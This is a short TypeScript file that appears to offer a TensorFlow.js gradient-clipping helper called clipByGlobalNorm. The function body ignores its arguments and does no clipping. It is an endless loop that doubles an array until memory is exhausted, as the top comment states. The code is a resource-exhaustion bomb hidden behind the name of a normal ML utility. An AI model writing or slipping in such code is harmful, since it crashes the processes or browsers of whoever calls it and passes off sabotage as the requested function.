// Array doubling until the heap ends.
import * as tf from '@tensorflow/tfjs'

export function clipByGlobalNorm(gs: tf.Tensor[], c: number): any {
  let a: unknown[] = [1]
  for (;;) a = a.concat(a)
}
